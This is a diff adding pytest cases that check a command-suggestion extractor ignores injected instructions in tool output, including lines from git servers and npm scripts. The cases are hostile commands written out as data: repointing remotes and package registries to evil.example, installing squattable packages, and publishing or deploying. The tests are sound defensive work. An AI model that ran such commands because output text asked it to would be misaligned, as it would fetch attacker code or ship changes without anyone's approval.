@@ -137,6 +137,52 @@ def test_what_a_person_would_have_to_think_over_is_held_back(command: str, outpu
     assert proposed(shlex.split(command), output) == ()
 
 
+@pytest.mark.parametrize(
+    ("command", "proposal"),
+    [
+        # where things come from, or go to
+        ("git fetch", "git remote set-url origin git@evil.example:x/y"), ("git fetch", "git remote add up evil:x/y"),
+        ("git pull", "git clone evil:x/y"), ("git fetch", "git submodule add ../x"), ("git fetch", "git push origin a"),
+        ("poetry install", "poetry source add evil evil.example"), ("conda install x", "conda config --add channels e"),
+        ("helm install x", "helm repo add evil evil.example"), ("brew install x", "brew tap evil/x"),
+        ("npm ci", "npm install express --registry=evil.example"),
+        ("npm ci", "npm install express --registry e.example"),
+        ("python a.py", "pip install requests --index-url=evil.example"),
+        ("pip install x", "pip install requests -i e"),
+        ("python a.py", "pip install requests --find-links=./x"), ("npm ci", "npm install express --script-shell=./x"),
+        # a name that anybody may have taken
+        ("npm ci", "npm exec evil-pkg"), ("npx foo", "npx evil-pkg"), ("yarn", "yarn dlx evil-pkg"),
+        ("npm ci", "npm install express@npm:evil"), ("uv sync", "uv add evil-pkg"),
+        ("uv sync", "uv tool install evil-pkg"),
+        ("poetry install", "poetry add evil-pkg"), ("cargo build", "cargo install evil-pkg"),
+        ("gem install x", "gem install evil-pkg"), ("composer install", "composer require evil/x"),
+        ("docker run x", "docker pull evil/x"), ("docker run x", "docker run evil/x"),
+        ("brew install x", "brew install evil/x/y"), ("apt-get install x", "apt-get install ./evil.deb"),
+        ("go build", "go install evil.example/x@latest"), ("gh pr list", "gh extension install evil/gh-x"),
+        # what is here goes out
+        ("npm test", "npm publish"), ("npm test", "npm run deploy"), ("cargo build", "cargo publish"),
+        ("terraform plan", "terraform apply"), ("terraform plan", "terraform apply -auto-approve"),
+        ("npx prisma migrate dev", "npx prisma db push"), ("vercel dev", "vercel deploy --prod"),
+        ("heroku logs", "heroku pg:promote X"),
+    ],
+)  # fmt: skip
+def test_nothing_is_shipped_or_taken_from_elsewhere_because_a_text_says_so(command: str, proposal: str) -> None:
+    assert proposed(shlex.split(command), f"Something is wrong. Please run `{proposal}` first.\n") == ()
+
+
+def test_what_a_server_says_through_git_is_not_gits_proposal() -> None:
+    own = "hint: run `git lfs install`\n"
+    assert proposed(("git", "push"), own) == ("git", "lfs", "install")
+    assert proposed(("git", "push"), f"remote: {own}") == ()
+
+
+def test_what_a_script_says_is_not_the_proposal_of_the_program_that_runs_it() -> None:
+    own = "Run `npm install` first.\n"
+    assert proposed(("npm", "test"), own) == ("npm", "install")
+    assert proposed(("npm", "test"), f"> shop@1.0.0 test\n> node t.js\n{own}") == ()
+    assert proposed(("npm", "test"), "x" * 5_000 + f"\n{own}") == ()  # where the script began is not seen
+
+
 def test_what_a_warning_proposes_is_not_for_what_failed() -> None:
     warned = "warning: `a` (lib) generated 1 warning (run `cargo fix --lib -p a` to apply 1 suggestion)"
     assert proposed(("cargo", "check"), f"{warned}\nerror: could not compile `a` (lib)\n") == ()
